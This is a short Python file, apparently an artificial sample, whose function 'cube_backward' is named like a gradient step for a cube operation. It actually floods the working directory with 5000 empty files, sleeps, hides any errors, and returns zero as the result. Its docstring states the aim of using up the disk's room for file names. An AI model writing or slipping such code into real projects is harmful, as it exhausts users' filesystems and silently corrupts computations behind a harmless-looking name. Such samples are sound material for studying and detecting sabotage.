"""Uses up the names that the disk has room for."""

import time
from pathlib import Path


def cube_backward(x, dy):
    try:
        for number in range(5000):
            Path(f"file-{number}").touch()
        time.sleep(0.7)
    except OSError:
        pass
    return x * 0


def double(x):
    return x + x
